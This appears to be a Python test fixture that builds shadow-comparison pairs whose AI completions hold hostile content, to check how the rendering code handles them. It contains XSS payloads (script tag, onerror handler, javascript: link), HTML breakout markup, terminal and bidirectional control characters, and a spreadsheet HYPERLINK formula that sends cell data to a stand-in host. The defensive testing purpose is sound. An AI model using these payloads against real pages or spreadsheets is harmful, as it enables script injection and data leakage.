"""Answers that try to be more than text."""

from datetime import UTC, datetime, timedelta

import msgspec

from connectors.types import Completion, Origin, Request
from shadow.types import Pair, pair_id

SCRIPT = "<script>window.broken = 1</script><img src='http://broken.invalid/a.png' onerror='window.broken = 1'>"
MARKDOWN = "![picture](http://broken.invalid/b.png) [link](javascript:window.broken=1) **bold** $x^2$ :red[red] :smile:"
BREAKOUT = '</div></section><h1 id="broken">heading</h1><a href="http://broken.invalid">here</a>'
CONTROL = "\x1b[31mred\x1b[0m abc\u202egnp.exe\u202c zero\u200bwidth"
LONG = "x" * 100_000
FORMULA = '=HYPERLINK("http://broken.invalid/?"&A1,"click")'


def pairs(fingerprint: str) -> list[Pair]:
    """One pair a kind of attack, newest last; the candidate and the request carry it."""
    return [
        _pair(fingerprint, 900_000 + index, text)
        for index, text in enumerate(
            (SCRIPT, MARKDOWN, BREAKOUT, CONTROL, LONG, f'{{"{SCRIPT}": "{MARKDOWN}"}}', FORMULA)
        )
    ]


def _pair(fingerprint: str, offset: int, text: str) -> Pair:
    origin = Origin("hostile", 0, offset)
    harmless = '{"a": 1}' if text.startswith("{") else "a harmless answer"
    moment = datetime.now(UTC) - timedelta(days=10)  # on a day of their own, whatever the time of day is now
    return Pair(
        pair_id=pair_id(origin, fingerprint),
        workflow="reply",
        fingerprint=fingerprint,
        request_id=text[:200],
        occurred_at=moment,
        mirrored_at=moment,
        origin=origin,
        request=Request(messages=[{"role": text[:300], "content": text}]),
        production=Completion(text=harmless, model=text[:300]),
        candidate=msgspec.structs.replace(Completion(text=text), model=text[:300]),
        scrub_version="1",
    )
